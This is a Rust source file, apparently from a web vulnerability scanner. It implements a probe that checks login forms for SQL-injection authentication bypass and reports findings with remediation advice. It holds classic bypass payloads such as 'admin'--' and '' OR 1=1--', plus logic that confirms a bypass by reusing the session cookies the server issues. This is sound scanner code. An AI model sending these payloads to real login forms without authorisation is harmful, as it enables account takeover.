//! Auth-bypass probe for login forms
//!
//! Unlike the other probes the payload replaces the parameter value
//! instead of being appended, matching the shape of a real login
//! submission. Two acceptance paths are evaluated per payload: a
//! redirect whose freshly issued session cookies survive a follow-up
//! request (Path A), and a response body that differs from the
//! failed-login baseline while showing a success keyword (Path B).

use super::{compare, harness, Probe, ProbeContext, SCANNER_NAME};
use crate::models::VulnerabilityResult;
use async_trait::async_trait;
use reqwest::header::LOCATION;
use tracing::info;
use url::Url;

/// The probe only fires on parameters that plausibly carry a login name
const LOGIN_USER_PARAMS: &[&str] = &["username", "user", "email", "login"];

/// Classic login bypass payloads, sent as the whole parameter value
const BYPASS_PAYLOADS: &[&str] = &["admin'--", "administrator'--", "' OR 1=1--"];

/// Keywords proving the follow-up page belongs to a live session
const SESSION_KEYWORDS: &[&str] = &["logout", "my account", "log out", "sign out"];

/// Keywords accepted on the direct response body; "welcome" alone is
/// too weak for the redirect path but fine combined with a baseline
/// differential
const BODY_KEYWORDS: &[&str] = &["logout", "my account", "log out", "sign out", "welcome"];

/// Known-bad credentials used to capture the failure baseline
const TEST_USER: &str = "vigil-test-user";
const TEST_PASS: &str = "vigil-test-pass";

const AUTH_REMEDIATION: &str = "Use parameterized queries for all database interactions.";

pub(super) struct AuthBypassProbe;

#[async_trait]
impl Probe for AuthBypassProbe {
    async fn probe(&self, cx: &ProbeContext<'_>, param: &str) -> Option<VulnerabilityResult> {
        if !LOGIN_USER_PARAMS.contains(&param.to_lowercase().as_str()) {
            return None;
        }

        // Failure baseline: a login attempt with junk credentials
        let mut base_params = match harness::original_params(cx.req) {
            Ok(p) => p,
            Err(_) => return None,
        };
        base_params.set(param, TEST_USER);
        set_password_fields(&mut base_params, TEST_PASS);
        let (_, failure_baseline) =
            match harness::send_request(cx.req, cx.client, &base_params).await {
                Ok(r) => r,
                Err(_) => return None,
            };

        for payload in BYPASS_PAYLOADS {
            let mut test_params = match harness::original_params(cx.req) {
                Ok(p) => p,
                Err(_) => continue,
            };
            test_params.set(param, *payload);
            set_password_fields(&mut test_params, "password");

            // The redirect itself is the signal, so it must not be followed
            let no_redirect = cx.client.without_redirects();
            let response = match harness::dispatch(cx.req, &no_redirect, &test_params).await {
                Ok(r) => r,
                Err(_) => continue,
            };
            let status = response.status().as_u16();

            // Path A: redirect carrying a fresh session cookie, verified
            // by fetching the destination with that cookie.
            if (300..400).contains(&status) {
                let location = match response.headers().get(LOCATION).and_then(|v| v.to_str().ok())
                {
                    Some(l) => l.to_string(),
                    None => continue,
                };
                let location_url = match Url::parse(&cx.req.url)
                    .ok()
                    .and_then(|base| base.join(&location).ok())
                {
                    Some(u) => u.to_string(),
                    None => continue,
                };

                let session_cookies: Vec<(String, String)> = response
                    .cookies()
                    .map(|c| (c.name().to_string(), c.value().to_string()))
                    .collect();
                if session_cookies.is_empty() {
                    continue;
                }

                let follow = match cx
                    .client
                    .get_with_cookies(&location_url, &session_cookies)
                    .await
                {
                    Ok(r) => r,
                    Err(_) => continue,
                };
                let follow_body = follow.text().await.unwrap_or_default();

                if let Some(keyword) = compare::find_keyword(&follow_body, SESSION_KEYWORDS) {
                    info!(
                        "SQLi (Auth Bypass): successfully verified session hijack after redirect for param '{}'",
                        param
                    );
                    return Some(
                        VulnerabilityResult::new(
                            "SQL Injection (Auth Bypass)",
                            cx.req.url.clone(),
                            param,
                            *payload,
                            harness::param_location(cx.req),
                            SCANNER_NAME,
                        )
                        .with_details(format!(
                            "The application redirected to {location_url} and a valid session \
                             was established after injecting a login bypass payload. The final \
                             page contained the keyword '{keyword}'."
                        ))
                        .with_evidence(format!(
                            "Redirect Location: {location_url}, Session Cookie: {}",
                            session_cookies[0].0
                        ))
                        .with_remediation(AUTH_REMEDIATION),
                    );
                }
            }

            // Path B: the response must differ from the failed-login
            // baseline AND contain a success keyword.
            let body = match response.text().await {
                Ok(b) => b,
                Err(_) => continue,
            };
            if compare::is_different(&failure_baseline, &body) {
                if let Some(keyword) = compare::find_keyword(&body, BODY_KEYWORDS) {
                    info!(
                        "SQLi (Auth Bypass): detected differential response and success keyword '{}' for param '{}'",
                        keyword, param
                    );
                    return Some(
                        VulnerabilityResult::new(
                            "SQL Injection (Auth Bypass)",
                            cx.req.url.clone(),
                            param,
                            *payload,
                            harness::param_location(cx.req),
                            SCANNER_NAME,
                        )
                        .with_details(format!(
                            "The response body was different from a normal failed login and \
                             contained a success keyword ('{keyword}') after injecting a \
                             bypass payload."
                        ))
                        .with_evidence(format!("Found keyword: '{keyword}' in a modified response."))
                        .with_remediation(AUTH_REMEDIATION),
                    );
                }
            }
        }

        None
    }
}

/// Overwrites every password-like field so the attempt looks like a
/// normal login submission
fn set_password_fields(params: &mut harness::Params, value: &str) {
    let names: Vec<String> = params.names().iter().map(|n| n.to_string()).collect();
    for name in names {
        if name.to_lowercase().contains("password") {
            params.set(&name, value);
        }
    }
}
